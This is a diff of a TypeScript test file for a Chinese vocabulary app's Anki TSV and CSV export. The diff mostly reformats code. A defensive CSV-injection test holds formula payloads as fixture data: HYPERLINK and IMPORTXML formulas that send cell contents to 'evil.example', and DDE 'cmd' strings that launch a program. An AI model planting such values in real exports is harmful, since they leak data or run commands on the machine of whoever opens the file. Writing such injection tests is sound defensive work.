@@ -9,13 +9,39 @@ const enc = (s: string) => new TextEncoder().encode(s);
 
 function sample(): StudyItem[] {
   let items = applySave([], saveReq(), Date.UTC(2026, 0, 2)).items;
-  items = applySave(items, saveReq({ sentence: '他说:"干部,要实干"\n第二行。', url: 'http://x/a,b', pageTitle: 'A "quoted", title' }), Date.UTC(2026, 0, 3)).items;
   items = applySave(
     items,
-    saveReq({ simplified: '两岸', traditional: '兩岸', pinyin: 'liǎng àn', definitions: ['both shores', 'both sides of the Taiwan Strait'], civic: { category: 'hktw', explanation: 'The mainland and Taiwan.' }, sentence: '两岸同胞。', pageTitle: '', url: '' }),
+    saveReq({ sentence: '他说:"干部,要实干"\n第二行。', url: 'http://x/a,b', pageTitle: 'A "quoted", title' }),
+    Date.UTC(2026, 0, 3),
+  ).items;
+  items = applySave(
+    items,
+    saveReq({
+      simplified: '两岸',
+      traditional: '兩岸',
+      pinyin: 'liǎng àn',
+      definitions: ['both shores', 'both sides of the Taiwan Strait'],
+      civic: { category: 'hktw', explanation: 'The mainland and Taiwan.' },
+      sentence: '两岸同胞。',
+      pageTitle: '',
+      url: '',
+    }),
     Date.UTC(2026, 0, 4),
   ).items;
-  items = applySave(items, saveReq({ simplified: '学习', traditional: '學習', pinyin: 'xué xí', definitions: ['to learn'], civic: null, sentence: '', url: '', pageTitle: '' }), Date.UTC(2026, 0, 5)).items;
+  items = applySave(
+    items,
+    saveReq({
+      simplified: '学习',
+      traditional: '學習',
+      pinyin: 'xué xí',
+      definitions: ['to learn'],
+      civic: null,
+      sentence: '',
+      url: '',
+      pageTitle: '',
+    }),
+    Date.UTC(2026, 0, 5),
+  ).items;
   items[0]!.notes = 'note, with "quotes"\nand a second line';
   return items;
 }
@@ -84,7 +110,11 @@ describe('Anki TSV', () => {
     const tsv = toAnkiTsv(sample());
     expect(tsv.endsWith('\n')).toBe(true);
     const lines = tsv.slice(0, -1).split('\n');
-    expect(lines.slice(0, 3)).toEqual(['#separator:tab', '#html:false', '#columns:Simplified\tTraditional\tPinyin\tMeaning\tSentence\tSource']);
+    expect(lines.slice(0, 3)).toEqual([
+      '#separator:tab',
+      '#html:false',
+      '#columns:Simplified\tTraditional\tPinyin\tMeaning\tSentence\tSource',
+    ]);
     expect(lines).toHaveLength(6);
     for (const l of lines.slice(3)) expect(l.split('\t')).toHaveLength(6);
     expect(lines[3]!.split('\t')).toEqual([
@@ -132,7 +162,9 @@ describe('CSV', () => {
     expect(csvField('say "hi"')).toBe('"say ""hi"""');
     expect(csvField('two\nlines')).toBe('"two\nlines"');
     const csv = toCsv(sample());
-    expect(csv.startsWith('\uFEFFsimplified,traditional,pinyin,meaning,category,explanation,sentence,title,url,notes,saved\r\n')).toBe(true);
+    expect(csv.startsWith('\uFEFFsimplified,traditional,pinyin,meaning,category,explanation,sentence,title,url,notes,saved\r\n')).toBe(
+      true,
+    );
     expect(csv).toContain('"note, with ""quotes""\nand a second line"');
   });
 
@@ -173,15 +205,23 @@ describe('cells a spreadsheet would run (CSV injection)', () => {
       [],
       saveReq({
         sentence: '=HYPERLINK("http://evil.example/?leak="&A1,"点击")',
-        pageTitle: '+cmd|\' /C calc\'!A0',
-        url: '@SUM(1+1)*cmd|\' /C calc\'!A0',
+        pageTitle: "+cmd|' /C calc'!A0",
+        url: "@SUM(1+1)*cmd|' /C calc'!A0",
         definitions: ['-ism', 'cadre'],
       }),
       Date.UTC(2026, 0, 2),
     ).items;
-    items = applySave(items, saveReq({ sentence: '\t=1+1', pageTitle: '\r=2+2', url: "'=already guarded by hand" }), Date.UTC(2026, 0, 3)).items;
+    items = applySave(
+      items,
+      saveReq({ sentence: '\t=1+1', pageTitle: '\r=2+2', url: "'=already guarded by hand" }),
+      Date.UTC(2026, 0, 3),
+    ).items;
     items[0]!.notes = '=IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")';
-    items = applySave(items, saveReq({ simplified: '两岸', traditional: '兩岸', sentence: '＝全角等号开头的句子', pageTitle: 'plain title', url: '' }), Date.UTC(2026, 0, 4)).items;
+    items = applySave(
+      items,
+      saveReq({ simplified: '两岸', traditional: '兩岸', sentence: '＝全角等号开头的句子', pageTitle: 'plain title', url: '' }),
+      Date.UTC(2026, 0, 4),
+    ).items;
     return items;
   }
 
@@ -232,7 +272,10 @@ describe('cells a spreadsheet would run (CSV injection)', () => {
   it('no TSV field starts like a formula, and importing the TSV gives back the text', () => {
     const items = hostile();
     const tsv = toAnkiTsv(items);
-    const fields = tsv.split('\n').filter((l) => l && !l.startsWith('#')).flatMap((l) => l.split('\t'));
+    const fields = tsv
+      .split('\n')
+      .filter((l) => l && !l.startsWith('#'))
+      .flatMap((l) => l.split('\t'));
     expect(fields.filter(startsLikeFormula)).toEqual([]);
     const r = ok(parseImport(enc(tsv)));
     expect(r.items[0]!.contexts[0]!.sentence).toBe(items[0]!.contexts[0]!.sentence);
@@ -309,4 +352,3 @@ describe('bad bytes and big files', () => {
     if (!bad.ok) expect(bad.error).toMatch(/^Line 1: /);
   });
 });
-
